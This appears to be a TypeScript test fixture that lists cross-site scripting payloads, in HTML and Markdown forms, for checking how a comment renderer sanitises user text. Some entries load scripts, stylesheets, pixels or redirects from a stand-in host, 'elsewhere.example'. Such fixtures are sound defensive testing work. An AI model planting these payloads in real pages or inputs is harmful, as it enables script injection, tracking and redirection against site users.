/*
 * What has been tried on those who show what strangers write: by OWASP's list, by cure53's, and by the advisories of
 * systems for comments.
 */

/** Each runs a script, or fetches something, where it is taken for markup. */
const markup = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://elsewhere.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://elsewhere.example/pixel.gif">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style>@import url(https://elsewhere.example/x.css)</style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<link rel=stylesheet href=https://elsewhere.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">',
  '<base href="https://elsewhere.example/">',
  '<form action="https://elsewhere.example/"><input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  '` onmouseover=alert(1) `',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<style>*{background:url(https://elsewhere.example/)}</style>',
  '\u2028<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
];

/** The same by way of Markdown. */
const markdown = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:alert(1))',
  '[x](https://x.org" onmouseover="alert(1))',
  "[x](https://x.org' onmouseover='alert(1))",
  '[x](<https://x.org"onmouseover=alert(1)>)',
  '[x](https://x.org "t\\" onmouseover=alert(1)")',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '![x](https://elsewhere.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](x)',
  '[![x](https://elsewhere.example/pixel.gif)](https://x.org)',
  '<javascript:alert(1)>',
  '<https://x.org"onmouseover="alert(1)>',
  'https://x.org"onmouseover="alert(1)',
  "https://x.org/'onmouseover='alert(1)",
  'https://x.org/`onmouseover=alert(1)`',
  '[a](https://x.org)](javascript:alert(1))',
  '[<img src=x onerror=alert(1)>](https://x.org)',
  '`<img src=x onerror=alert(1)>`',
  '```"><img src=x onerror=alert(1)>\ny\n```',
  '```js" onmouseover="alert(1)\ny\n```',
  '> <img src=x onerror=alert(1)>',
  '- <svg/onload=alert(1)>',
  '1" onmouseover="alert(1). x',
  '# <script>alert(1)</script>',
  '**<script>**alert(1)</script>',
];

/** Comments that want to be more than text. */
export const hostileTexts: readonly string[] = [...markup, ...markdown];

/** Names that do: no longer than a name may be. */
export const hostileNames: readonly string[] = markup.filter((name) => name.length <= 50);
